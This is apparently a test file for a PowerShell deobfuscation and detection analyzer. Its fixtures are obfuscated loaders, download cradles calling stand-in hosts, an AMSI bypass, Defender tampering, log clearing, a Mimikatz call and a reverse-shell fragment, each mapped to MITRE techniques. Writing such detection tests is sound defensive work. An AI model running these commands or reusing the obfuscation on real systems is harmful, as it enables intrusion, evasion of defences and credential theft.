// Deobfuscation on the real parser, one technique at a time. The inputs are written the way
// public obfuscators (Invoke-Obfuscation's token, string, encoding and launcher modes) and
// commodity loaders shape them; each must come back as the plain command it runs.
import { deflateRawSync, gzipSync } from 'node:zlib';
import { deobfuscatePowerShell, type Deobfuscation } from '../../../src/analyzers/powershell';

const u16 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
const u8 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const ids = (d: Deobfuscation) => d.indicators.map((i) => i.id);

interface Case {
  name: string;
  input: string;
  /** The deobfuscated script, exactly. */
  script: string;
  transformations?: string[];
  indicators?: string[];
  techniques?: string[];
}

const cases: Case[] = [
  {
    name: '-EncodedCommand (UTF-16LE base64) with hidden window',
    input: `powershell.exe -NoP -sta -NonI -W Hidden -Enc ${u16("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")}`,
    script: "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
    transformations: ['encoded-command'],
    indicators: ['download-cradle', 'encoded-command', 'hidden-window'],
    techniques: ['T1027', 'T1059.001', 'T1105', 'T1564.003'],
  },
  {
    name: 'backticks, random case and a computed method name',
    input: "IN`V`o`Ke-eX`p`ResSIoN (NEw-oBjEct Net.WebClient).('Do'+'wnl'+'oadString').Invoke(('ht'+'tp://'+'198.51.100.7/a'))",
    script: "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    transformations: ['backtick', 'case', 'concat'],
    indicators: ['download-cradle', 'obfuscation'],
  },
  {
    name: 'string concatenation in a variable',
    input: "$c='Down'+'load'+'String';(New-Object Net.WebClient).$c('http://evil.example/p')|iex",
    script: "$c='DownloadString';(New-Object Net.WebClient).DownloadString('http://evil.example/p')|iex",
    transformations: ['concat', 'variable'],
    indicators: ['download-cradle'],
  },
  {
    name: '-f format operator with reordered pieces, invoked through &(...)',
    input: "&(\"{1}{0}\"-f'EX','I') ( ((\"{0}{2}{1}\" -f 'Write','st','-Ho')) + ' x')",
    script: 'Write-Host x',
    transformations: ['dynamic-command', 'format', 'iex-unwrap'],
    indicators: ['obfuscation'],
  },
  {
    name: "&('I'+'EX') invocation",
    input: "&('I'+'EX') ('Write-Host'+' hi')",
    script: 'Write-Host hi',
    transformations: ['concat', 'dynamic-command', 'iex-unwrap'],
  },
  {
    name: '[char] array joined with -join, then invoked',
    input: "& (-join [char[]](73,69,88)) 'Write-Host x'",
    script: 'Write-Host x',
    transformations: ['char-codes', 'join', 'iex-unwrap'],
  },
  {
    name: '[char]105+[char]101+[char]120 held in a variable',
    input: '$a = [char]105+[char]101+[char]120; & $a "Write-Host calc"',
    script: "$a = 'iex'; \nWrite-Host calc",
    transformations: ['char-codes', 'variable', 'iex-unwrap'],
  },
  {
    name: '[string]::Join over char codes, piped into iex spelt from $env:ComSpec',
    input: "[sTRinG]::JOIn('', [ChAR[]](87,114,105,116,101,45,72,111,115,116,32,49)) | & ( $env:ComSpec[4,15,25]-Join'')",
    script: 'Write-Host 1',
    transformations: ['char-codes', 'join', 'special-variable', 'iex-unwrap'],
  },
  {
    name: 'iex spelt from $PSHome',
    input: ". ( $PsHomE[21]+$PsHOmE[30]+'X') (\"Write-Host 'hi'\")",
    script: "Write-Host 'hi'",
    transformations: ['special-variable', 'iex-unwrap'],
  },
  {
    name: 'iex spelt from $ShellId',
    input: "&($ShellId[1]+$ShellId[13]+'x') 'Write-Host shellid'",
    script: 'Write-Host shellid',
    transformations: ['special-variable'],
  },
  {
    name: 'iex spelt from $VerbosePreference',
    input: ".( $VerbosePreference.ToString()[1,3]+'x'-JoIN'') ('Write-Host 1')",
    script: 'Write-Host 1',
    transformations: ['special-variable', 'join'],
  },
  {
    name: '.Replace() of a junk marker',
    input: "iex ((\"Write-HostXYZ'ok'\").Replace('XYZ',' '))",
    script: "Write-Host 'ok'",
    transformations: ['replace', 'iex-unwrap'],
  },
  {
    name: '-replace with a regex marker class',
    input: "iex ('Wr~ite-Ho^st r~eplaced' -replace '[~^]','')",
    script: 'Write-Host replaced',
    transformations: ['replace', 'iex-unwrap'],
  },
  {
    name: 'reversed string through [regex]::Matches RightToLeft',
    input: "( [rEGEx]::MaTCHES( \")'desrever'(tsoH-etirW\" ,'.','RiGHTtOlefT')|FOREACH-object {$_.VALUE} ) -JOIN '' | iex",
    script: "Write-Host('reversed')",
    transformations: ['reverse', 'iex-unwrap'],
  },
  {
    name: 'reversed string through a negative range index',
    input: "iex ('desrever tsoH-etirW'[-1..-20] -join '')",
    script: 'Write-Host reversed',
    transformations: ['reverse', 'join'],
  },
  {
    name: '[Array]::Reverse of a char array in a variable',
    input: "$s = 'tsoH-etirW'; $a = $s.ToCharArray(); [Array]::Reverse($a); iex ((-join $a) + ' rev')",
    script: "$s = 'tsoH-etirW'; $a = @('t','s','o','H','-','e','t','i','r','W'); [Array]::Reverse($a); \nWrite-Host rev",
    transformations: ['reverse'],
  },
  {
    name: 'ForEach-Object over char codes',
    input: "iex ([string]::Join('', ((0x57,0x72,0x69,0x74,0x65) | % { [char]($_) })) + '-Host 2')",
    script: 'Write-Host 2',
    transformations: ['char-codes', 'join'],
  },
  {
    name: 'single-byte XOR over a code array',
    input: '$k = 0x11; $enc = (70,99,120,101,116,60,89,126,98,101) | % { [char]($_ -bxor $k) }; iex ((-join $enc) + " xor")',
    script: '$k = 0x11; $enc = (70,99,120,101,116,60,89,126,98,101) | % { [char]($_ -bxor 17) }; \nWrite-Host xor',
    transformations: ['xor'],
  },
  {
    name: 'octal codes through [Convert]::ToInt16(..., 8) (Invoke-Obfuscation ENCODING)',
    input: 'iex (-join ((127,162,151,164,145,55,110,157,163,164) | % { [char]([Convert]::ToInt16(([string]$_), 8)) }))',
    script: 'Write-Host',
  },
  {
    name: 'Unicode base64 decoded in the script',
    input: `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${u16("Write-Host 'unicode'")}')))`,
    script: "Write-Host 'unicode'",
    transformations: ['base64', 'decode', 'iex-unwrap'],
    indicators: ['decode-and-execute', 'in-script-decoding', 'obfuscation'],
    techniques: ['T1027', 'T1059.001', 'T1140'],
  },
  {
    name: 'UTF-8 base64 decoded in the script',
    input: `iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("${u8("Write-Host 'utf8'")}")))`,
    script: "Write-Host 'utf8'",
    transformations: ['base64', 'decode'],
  },
  {
    name: 'base64 held in a variable',
    input: `$b = '${u16('IEX')}'; [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))`,
    script: `$b = '${u16('IEX')}'; 'IEX'`,
    transformations: ['base64', 'variable'],
  },
  {
    name: 'Deflate-compressed base64 (Invoke-Obfuscation COMPRESS launcher)',
    input: `Invoke-Expression $(New-Object IO.StreamReader ($(New-Object IO.Compression.DeflateStream ($(New-Object IO.MemoryStream (,$([Convert]::FromBase64String('${deflateRawSync("Write-Host 'deflated'").toString('base64')}')))), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd();`,
    script: "Write-Host 'deflated'\n;",
    transformations: ['base64', 'compression', 'iex-unwrap'],
    indicators: ['decode-and-execute', 'in-script-decoding'],
  },
  {
    name: 'GZip-compressed base64 through a variable',
    input: `$d = New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync("Write-Host 'gzipped'").toString('base64')}'))), [IO.Compression.CompressionMode]::Decompress); iex ((New-Object IO.StreamReader($d)).ReadToEnd())`,
    script: `$d = New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync("Write-Host 'gzipped'").toString('base64')}'))), 'Decompress'); \nWrite-Host 'gzipped'`,
    transformations: ['compression'],
  },
  {
    name: 'Set-Variable / Get-Variable -ValueOnly indirection',
    input: "Set-Variable 'p1' 'Write-Host'; iex ((Get-Variable p1 -ValueOnly) + ' gv')",
    script: "Set-Variable 'p1' 'Write-Host'; \nWrite-Host gv",
    transformations: ['variable'],
  },
  {
    name: '(gv name).Value indirection',
    input: "sv x 'Write-Host'; &('ie'+'x') ((gv x).Value + ' value')",
    script: "sv x 'Write-Host'; \nWrite-Host value",
  },
  {
    name: 'Get-Command wildcard for Invoke-Expression',
    input: "& ( gcm *ke-exp*) 'Write-Host gcm'",
    script: 'Write-Host gcm',
    transformations: ['get-command'],
  },
  {
    name: '$ExecutionContext.InvokeCommand.GetCmdlets wildcard',
    input: "& ($ExecutionContext.InvokeCommand.GetCmdlets('I*e-E*')) 'Write-Host getcmdlets'",
    script: 'Write-Host getcmdlets',
    transformations: ['get-command'],
  },
  {
    name: '$ExecutionContext.InvokeCommand.InvokeScript',
    input: "$ExecutionContext.InvokeCommand.InvokeScript('Write-Host via invokescript')",
    script: '. {Write-Host via invokescript}',
    transformations: ['iex-unwrap'],
  },
  {
    name: '[ScriptBlock]::Create of a built string',
    input: "Invoke-Command -ScriptBlock ([ScriptBlock]::Create('Write-Host ' + 'sb'))",
    script: 'Invoke-Command -ScriptBlock {Write-Host sb}',
    transformations: ['scriptblock'],
  },
  {
    name: 'string piped into Invoke-Expression',
    input: "('Write-Host ' + 'piped') | Invoke-Expression",
    script: 'Write-Host piped',
    transformations: ['iex-unwrap'],
  },
  {
    name: 'a -Command launcher whose command builds the real one',
    input: "powershell -nop -w 1 -c \"Invoke-Expression ('Write-Host'+' inner')\"",
    script: 'Write-Host inner',
    indicators: ['hidden-window'],
  },
  {
    name: 'cmd.exe caret escapes around the launcher',
    input: `c^md /c p^owershell -e^nc ${u16("Write-Host 'caret'")}`,
    script: "Write-Host 'caret'",
    transformations: ['encoded-command'],
  },
  {
    name: 'powershell -enc nested inside a script',
    input: `$x = 1\npowershell.exe -NoP -enc ${u16("Write-Host 'nested'")}`,
    script: "$x = 1\npowershell.exe -NoP -Command {Write-Host 'nested'}",
    transformations: ['encoded-command'],
    indicators: ['encoded-command'],
  },
  {
    name: 'backticks before plain letters inside a double-quoted string',
    input: '$u = "http://ev`il.exam`ple/`p`s1"; iwr $u -UseBasicParsing | iex',
    script: "$u = 'http://evil.example/ps1'; iwr 'http://evil.example/ps1' -UseBasicParsing | iex",
    transformations: ['backtick', 'variable'],
    indicators: ['download-cradle', 'obfuscation'],
  },
];

describe('deobfuscatePowerShell: one obfuscation technique at a time', () => {
  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const d = await deobfuscatePowerShell(c.input);
    expect(d.script).toBe(c.script);
    for (const t of c.transformations ?? []) expect(d.transformations).toContain(t);
    for (const i of c.indicators ?? []) expect(ids(d)).toContain(i);
    for (const t of c.techniques ?? []) expect(d.techniques).toContain(t);
    expect(d.layers[0]).toBe(c.input);
    expect(d.layers.length).toBeGreaterThan(1);
    expect(d.problems).toEqual([]);
  });

  it('peels layer after layer: encoded launcher → base64 in the script → obfuscated cradle', async () => {
    const inner = "IN`V`o`Ke-eX`p`ResSIoN (NEw-oBjEct Net.WebClient).('Do'+'wnl'+'oadString').Invoke('http://198.51.100.7/stage2')";
    const middle = `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${u16(inner)}')))`;
    const d = await deobfuscatePowerShell(`powershell -w hidden -ep bypass -enc ${u16(middle)}`);
    expect(d.script).toBe("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2')");
    expect(d.layers.length).toBeGreaterThanOrEqual(4);
    expect(d.layers[1]).toBe(middle);
    expect(ids(d)).toEqual(
      expect.arrayContaining([
        'download-cradle',
        'encoded-command',
        'hidden-window',
        'execution-policy-bypass',
        'in-script-decoding',
        'obfuscation',
      ]),
    );
    expect(d.techniques).toEqual(['T1027', 'T1059.001', 'T1105', 'T1140', 'T1564.003']);
  });

  it('leaves plain scripts as they are (nothing to undo, no obfuscation reported)', async () => {
    const plain =
      'Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item -WhatIf\nWrite-Host "done`n"';
    const d = await deobfuscatePowerShell(plain);
    expect(d.script).toBe(plain);
    expect(d.layers).toEqual([plain]);
    expect(d.transformations).toEqual([]);
    expect(d.indicators).toEqual([]);
  });

  it('does not trust the stock value of an automatic variable the script overwrites', async () => {
    const d = await deobfuscatePowerShell("$env:ComSpec = 'C:\\x\\y.exe'; &($env:ComSpec[4,15,25]-join'') 'Write-Host a'");
    expect(d.script).toContain("&($env:ComSpec[4,15,25]-join'')");
    expect(d.transformations).not.toContain('iex-unwrap');
  });

  it('does not propagate a variable that a function may change', async () => {
    const d = await deobfuscatePowerShell("$x = 'Write-Host a'; function f { sv x 'Write-Host b' }; f; iex $x");
    expect(d.script).toContain('iex $x');
  });

  it('does not report obfuscation for ordinary scripting with variables and concatenation', async () => {
    const d = await deobfuscatePowerShell(
      "$dir = \"$env:TEMP\" + '\\logs'\n$name = 'report' + '.txt'\nGet-WMIObject Win32_Process | Out-File (Join-Path $dir $name)",
    );
    expect(ids(d)).not.toContain('obfuscation');
  });
});

describe('indicators in the clear text', () => {
  it.each([
    [
      'Net.WebClient DownloadString + IEX',
      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
      'download-cradle',
      'T1105',
    ],
    [
      'DownloadData + reflective load',
      "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://x.example/a.dll'))",
      'reflective-load',
      'T1620',
    ],
    ['iwr piped to iex', 'iwr http://x.example/a.ps1 -UseBasicParsing | iex', 'download-cradle', 'T1059.001'],
    [
      'Invoke-RestMethod into Invoke-Expression',
      'Invoke-Expression (Invoke-RestMethod -Uri https://x.example/a)',
      'download-cradle',
      'T1105',
    ],
    ['curl alias into iex', 'iex (curl http://x.example/a -UseBasicParsing).Content', 'download-cradle', 'T1105'],
    [
      'Start-BitsTransfer then Start-Process',
      'Start-BitsTransfer -Source http://x.example/a.exe -Destination $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe',
      'download-executable',
      'T1105',
    ],
    [
      'System.Net.Http.HttpClient + scriptblock',
      '$h = New-Object System.Net.Http.HttpClient; $s = $h.GetStringAsync("http://x.example/a").Result; & ([scriptblock]::Create($s))',
      'download-cradle',
      'T1105',
    ],
    [
      'DownloadFile to an executable',
      '(New-Object Net.WebClient).DownloadFile(\'http://x.example/a.exe\', "$env:TEMP\\a.exe")',
      'download-executable',
      'T1105',
    ],
    [
      'AMSI bypass (amsiInitFailed)',
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
      'amsi-bypass',
      'T1562.001',
    ],
    ['Defender real-time monitoring off', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'defender-tamper', 'T1562.001'],
    ['Defender exclusion', 'Add-MpPreference -ExclusionPath C:\\Users\\Public', 'defender-tamper', 'T1562.001'],
    ['Defender aliases', 'Set-MpPreference -drtm $True', 'defender-tamper', 'T1562.001'],
    ['execution policy bypass', 'Set-ExecutionPolicy Bypass -Scope Process -Force', 'execution-policy-bypass', 'T1059.001'],
    ['hidden child window', 'Start-Process powershell -WindowStyle Hidden -ArgumentList "-c whoami"', 'hidden-window', 'T1564.003'],
    ['Invoke-Mimikatz', 'Invoke-Mimikatz -DumpCreds', 'credential-theft', 'T1003.001'],
    [
      'registry-stored payload decoded and run',
      "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String((gp 'HKCU:\\Software\\Classes\\X').Y)))",
      'decode-and-execute',
      'T1140',
    ],
    ['event log clearing', 'Clear-EventLog -LogName Security', 'eventlog-clear', 'T1070.001'],
    [
      'reverse shell',
      '$c = New-Object Net.Sockets.TCPClient("198.51.100.7",443);$s = $c.GetStream();while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1 | Out-String)}',
      'reverse-shell',
      'T1059.001',
    ],
  ])('%s', async (_name, script, indicator, technique) => {
    const d = await deobfuscatePowerShell(script);
    expect(ids(d)).toContain(indicator);
    expect(d.techniques).toContain(technique);
  });

  it('finds the cradle only after deobfuscation when every word of it is hidden', async () => {
    const hidden =
      "&(\"{1}{0}\" -f 'EX','I') ((&('New-'+'Object') ('Net.'+'Web'+'Client')).(\"{0}{1}\" -f 'Download','String').Invoke(('http://198.51.100.7/'+'x')))";
    const d = await deobfuscatePowerShell(hidden);
    expect(d.script).toBe("iex ((New-Object 'Net.WebClient').DownloadString('http://198.51.100.7/x'))");
    expect(ids(d)).toContain('download-cradle');
    const { deobfuscateWith } = await import('../../../src/analyzers/powershell');
    expect(deobfuscateWith(null, hidden).indicators.map((i) => i.id)).not.toContain('download-cradle');
  });
});
